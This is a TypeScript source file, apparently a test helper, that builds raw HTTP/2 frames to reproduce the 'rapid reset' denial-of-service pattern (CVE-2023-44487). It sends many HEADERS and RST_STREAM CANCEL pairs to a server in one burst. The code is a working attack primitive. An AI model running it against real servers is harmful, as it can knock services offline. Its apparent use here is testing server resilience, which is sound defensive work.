/**
 * A raw HTTP/2 client for the "rapid reset" pattern (CVE-2023-44487): it opens streams and resets
 * each at once (HEADERS then RST_STREAM CANCEL), all written back to back, as an attacker would.
 * Node's own client cannot do this: a stream closed before its HEADERS were flushed is never sent.
 */
import { once } from 'node:events';
import { connect as netConnect, type Socket } from 'node:net';
import { connect, type ConnectionOptions } from 'node:tls';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const TYPE = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4 } as const;
const FLAG = { END_STREAM: 0x1, END_HEADERS: 0x4, ACK: 0x1 } as const;
const CANCEL = 0x8;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

/** GET / over https or http, :authority literal (HPACK static-table indices 2, 7 or 6, 4; literal name index 1). */
function requestBlock(authority: string, secure: boolean): Buffer {
  const value = Buffer.from(authority);
  return Buffer.concat([Buffer.from([0x82, secure ? 0x87 : 0x86, 0x84, 0x01, value.length]), value]);
}

export interface RapidResetResult {
  socket: Socket;
  /** Resolves when the server closed or reset the connection. */
  closed: Promise<void>;
}

/**
 * Connect (TLS with `tls`, or h2c with prior knowledge when `tls` is undefined), then send `streams`
 * HEADERS + RST_STREAM pairs in one write.
 */
export async function rapidReset(host: string, port: number, tls: ConnectionOptions | undefined, streams: number): Promise<RapidResetResult> {
  const socket: Socket = tls === undefined ? netConnect({ host, port }) : connect({ ...tls, host, port, ALPNProtocols: ['h2'], servername: 'localhost' });
  socket.on('error', () => undefined);
  socket.on('data', () => undefined); // read (and drop) whatever the server sends
  const closed = once(socket, 'close').then(() => undefined);
  await once(socket, tls === undefined ? 'connect' : 'secureConnect');
  const parts: Buffer[] = [PREFACE, frame(TYPE.SETTINGS, 0, 0, Buffer.alloc(0)), frame(TYPE.SETTINGS, FLAG.ACK, 0, Buffer.alloc(0))];
  const block = requestBlock(`${host}:${port}`, tls !== undefined);
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(CANCEL);
  for (let i = 0; i < streams; i++) {
    const id = 2 * i + 1;
    parts.push(frame(TYPE.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, block), frame(TYPE.RST_STREAM, 0, id, rst));
  }
  socket.write(Buffer.concat(parts));
  return { socket, closed };
}
